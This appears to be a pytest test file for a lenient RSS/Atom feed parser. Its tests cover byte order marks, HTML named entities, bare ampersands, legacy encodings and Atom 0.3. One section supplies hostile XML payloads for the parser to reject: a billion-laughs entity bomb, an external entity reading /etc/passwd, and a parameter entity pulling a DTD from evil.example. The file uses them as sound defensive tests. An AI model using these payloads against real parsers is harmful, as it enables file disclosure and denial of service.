"""Feed parsing as lenient as feed readers, and still refusing entity expansion.

What is forgiven is what real feeds get wrong and browsers or feed readers overlook: a byte
order mark or blank lines before `<?xml`, HTML named entities (XML defines only five), a
bare "&", and the Atom 0.3 draft. What is not: any entity a document declares itself.
"""

from __future__ import annotations

import pytest

from rollout.phases.news_sources.feeds import FeedError, ParsedFeed, parse_feed, sniff
from tests.support.phase_fixtures import atom, rss

URL = "https://joes.example/feed.xml"


def rss_with(title: str, *, prolog: bytes = b"", description: str = "") -> bytes:
    return (
        prolog
        + (
            '<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel>'
            f"<title>{title}</title><link>https://joes.example/</link>"
            f"<description>{description}</description>"
            "<item><title>Story</title><link>https://joes.example/story</link></item>"
            "</channel></rss>"
        ).encode()
    )


def summary(parsed: ParsedFeed) -> tuple[str, str | None, str | None, int, str | None]:
    return parsed.kind, parsed.title, parsed.link, parsed.item_count, parsed.problem


# --------------------------------------------------------------------------------------
# What parsed before still parses the same
# --------------------------------------------------------------------------------------


def test_rss2_and_atom1_parse_as_before() -> None:
    parsed = parse_feed(rss("Joe's", "https://joes.example").encode(), URL)
    assert summary(parsed) == ("rss", "Joe's", "https://joes.example", 3, None)
    assert [i.link for i in parsed.items] == [f"https://joes.example/story-{i}" for i in range(3)]
    parsed = parse_feed(atom("Blog", "https://b.example").encode(), "https://b.example/atom")
    assert summary(parsed) == ("atom", "Blog", "https://b.example", 2, None)
    assert parsed.items[1].link == "https://b.example/post-1"


def test_escaped_markup_and_numeric_references_are_left_to_xml() -> None:
    parsed = parse_feed(
        rss_with("&lt;b&gt;Fish &amp; Chips&lt;/b&gt; &quot;&#233;t&#xE9;&quot; &apos;&#38;&apos;"),
        URL,
    )
    assert parsed.title == "<b>Fish & Chips</b> \"été\" '&'"


def test_malformed_documents_are_still_refused() -> None:
    for body in (
        b"<rss><channel><title>unclosed",
        b"<html><body>not a feed</body></html>",
        b"<rss><channel><title>a</b></title></channel></rss>",
    ):
        with pytest.raises(FeedError):
            parse_feed(body, URL)


# --------------------------------------------------------------------------------------
# Leading whitespace and byte order marks
# --------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "prolog",
    [
        b"\xef\xbb\xbf",
        b"\n",
        b"\r\n\r\n  \t",
        b"\xef\xbb\xbf\n\n",
        b"\n\xef\xbb\xbf",
    ],
    ids=["bom", "newline", "blank-lines", "bom-then-blank", "blank-then-bom"],
)
def test_whitespace_or_bom_before_the_declaration(prolog: bytes) -> None:
    parsed = parse_feed(rss_with("Joe's", prolog=prolog), URL)
    assert summary(parsed) == ("rss", "Joe's", "https://joes.example/", 1, None)
    assert sniff(rss_with("Joe's", prolog=prolog)) == "rss"


def test_whitespace_before_a_root_without_declaration() -> None:
    body = b"\n\n<rss><channel><title>T</title><link>/</link><item><title>I</title></item>"
    parsed = parse_feed(body + b"</channel></rss>", URL)
    assert (parsed.title, parsed.link) == ("T", "https://joes.example/")


# --------------------------------------------------------------------------------------
# HTML named entities
# --------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("written", "read"),
    [
        ("Joe&nbsp;s&nbsp;Diner", "Joe s Diner"),  # a no-break space is whitespace to _text
        ("Caf&eacute; &Eacute;t&eacute;", "Café Été"),
        ("&copy; 2024 Joe&rsquo;s", "© 2024 Joe\u2019s"),
        ("News &mdash; Events &ndash; More&hellip;", "News \u2014 Events \u2013 More\u2026"),
        ("&laquo;Menu&raquo; &euro;5 &frac12; off", "«Menu» €5 ½ off"),
        ("&NotEqualTilde;", "\u2242\u0338"),  # an HTML5 name that is two characters
    ],
)
def test_html_named_entities_in_titles(written: str, read: str) -> None:
    assert parse_feed(rss_with(written), URL).title == read


def test_html_entities_in_descriptions_do_not_spoil_the_feed() -> None:
    parsed = parse_feed(rss_with("Joe's", description="Open&nbsp;daily &ndash; caf&eacute;"), URL)
    assert summary(parsed) == ("rss", "Joe's", "https://joes.example/", 1, None)


def test_bare_ampersands_and_unknown_names_read_as_written() -> None:
    body = (
        b"<rss><channel><title>Fish & Chips &foo; &#12 R&D</title>"
        b"<link>https://joes.example/?page=news&lang=en</link>"
        b"<item><title>A</title><link>https://joes.example/a?x=1&y=2</link></item>"
        b"</channel></rss>"
    )
    parsed = parse_feed(body, URL)
    assert parsed.title == "Fish & Chips &foo; &#12 R&D"
    assert parsed.link == "https://joes.example/?page=news&lang=en"
    assert parsed.items[0].link == "https://joes.example/a?x=1&y=2"


def test_cdata_and_comments_are_left_as_written() -> None:
    body = (
        b"<rss><channel><title><![CDATA[Joe&nbsp;s & Co]]></title><!-- &nbsp; & -->"
        b"<link>https://joes.example/</link><item><title>A</title></item></channel></rss>"
    )
    assert parse_feed(body, URL).title == "Joe&nbsp;s & Co"


def test_rss_091_with_the_netscape_doctype() -> None:
    """The RSS 0.91 DTD defined the HTML Latin-1 names; it is not fetched, the names are known."""
    body = (
        b'<?xml version="1.0" encoding="ISO-8859-1"?>\n'
        b'<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN"\n'
        b' "http://my.netscape.com/publish/formats/rss-0.91.dtd">\n'
        b'<rss version="0.91"><channel><title>Caf\xe9&nbsp;Joe &eacute;t&eacute;</title>'
        b"<link>https://joes.example/</link><item><title>A</title>"
        b"<link>https://joes.example/a</link></item></channel></rss>"
    )
    parsed = parse_feed(body, URL)
    assert parsed.title == "Café Joe été"
    assert parsed.problem is None


def test_documents_in_other_encodings() -> None:
    latin1 = "<?xml version='1.0' encoding='windows-1252'?><rss><channel><title>Caf\xe9&nbsp;\u2019"
    body = (latin1 + "</title><link>/</link><item><title>A</title></item></channel></rss>").encode(
        "cp1252"
    )
    assert parse_feed(body, URL).title == "Café \u2019"
    # UTF-16 is passed to the parser untouched (its "&" is two bytes).
    utf16 = "<?xml version='1.0' encoding='UTF-16'?><rss><channel><title>A&amp;B</title>"
    body = (utf16 + "<link>/</link><item><title>A</title></item></channel></rss>").encode("utf-16")
    assert parse_feed(body, URL).title == "A&B"


# --------------------------------------------------------------------------------------
# Entity declarations are still refused
# --------------------------------------------------------------------------------------

BILLION_LAUGHS = (
    b'<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n'
    + b"".join(
        f' <!ENTITY lol{i} "{f"&lol{i - 1};" * 10 if i > 1 else "&lol;" * 10}">\n'.encode()
        for i in range(1, 10)
    )
    + b"]>\n<rss><channel><title>&lol9;</title><link>/</link><item><title>A</title></item>"
    + b"</channel></rss>"
)


@pytest.mark.parametrize(
    "body",
    [
        BILLION_LAUGHS,
        # Declared under HTML names: the declaration wins no trust by its name.
        b'<!DOCTYPE rss [<!ENTITY lol "lol"><!ENTITY nbsp "&lol;&lol;&lol;&lol;&lol;">'
        b'<!ENTITY eacute "&nbsp;&nbsp;&nbsp;&nbsp;">]><rss><channel><title>&eacute;</title>'
        b"</channel></rss>",
        # Declared but never used is refused too.
        b'<!DOCTYPE rss [<!ENTITY lol "lol">]><rss><channel><title>A</title></channel></rss>',
        # External entities and parameter entities.
        b'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
        b"<rss><channel><title>&xxe;</title></channel></rss>",
        b'<!DOCTYPE rss [<!ENTITY % remote SYSTEM "http://evil.example/x.dtd"> %remote;]>'
        b"<rss><channel><title>A</title></channel></rss>",
        # A ">" inside an entity value does not get the rest of the subset rewritten away.
        b'<!DOCTYPE rss [<!ENTITY a "]>"><!ENTITY b "&a;&a;&a;">]>'
        b"<rss><channel><title>&b;</title></channel></rss>",
        # Behind a byte order mark and blank lines.
        b"\xef\xbb\xbf\n\n" + BILLION_LAUGHS,
    ],
    ids=["billion-laughs", "html-names", "unused", "external", "parameter", "gt-in-value", "bom"],
)
def test_entity_declarations_are_refused(body: bytes) -> None:
    with pytest.raises(FeedError, match="EntitiesForbidden"):
        parse_feed(body, URL)


# --------------------------------------------------------------------------------------
# Atom 0.3
# --------------------------------------------------------------------------------------

ATOM_03 = b"""<?xml version="1.0" encoding="utf-8"?>
<feed version="0.3" xmlns="http://purl.org/atom/ns#" xml:lang="en">
  <title mode="escaped" type="text/html">Joe&apos;s &amp; Co</title>
  <link rel="alternate" type="text/html" href="https://joes.example/"/>
  <modified>2005-03-01T12:00:00Z</modified>
  <tagline>News from the diner</tagline>
  <entry>
    <title>New menu</title>
    <link rel="alternate" type="text/html" href="/blog/new-menu"/>
    <id>tag:joes.example,2005:1</id>
    <issued>2005-02-28T09:00:00-05:00</issued>
    <modified>2005-03-01T12:00:00Z</modified>
  </entry>
  <entry>
    <title>Caf&eacute; hours</title>
    <link rel="service.edit" type="application/x.atom+xml" href="/edit/2"/>
    <link rel="alternate" type="text/html" href="https://joes.example/blog/hours"/>
    <issued>2005-02-20T09:00:00Z</issued>
  </entry>
</feed>
"""


def test_atom_03_is_read_like_atom_1() -> None:
    parsed = parse_feed(ATOM_03, "https://joes.example/atom.xml")
    assert summary(parsed) == ("atom", "Joe's & Co", "https://joes.example/", 2, None)
    assert [(i.title, i.link) for i in parsed.items] == [
        ("New menu", "https://joes.example/blog/new-menu"),
        ("Café hours", "https://joes.example/blog/hours"),
    ]


def test_atom_03_is_sniffed_even_after_whitespace_or_bom() -> None:
    assert sniff(ATOM_03) == "atom"
    assert sniff(b"\xef\xbb\xbf\r\n  " + ATOM_03) == "atom"
    assert sniff(b"\n\n" + ATOM_03, "text/xml") == "atom"
    assert parse_feed(b"\xef\xbb\xbf\n  " + ATOM_03, URL).item_count == 2


def test_an_unknown_namespace_is_not_atom() -> None:
    with pytest.raises(FeedError, match="not RSS or Atom"):
        parse_feed(b'<feed xmlns="http://example.com/not-atom"><title>T</title></feed>', URL)
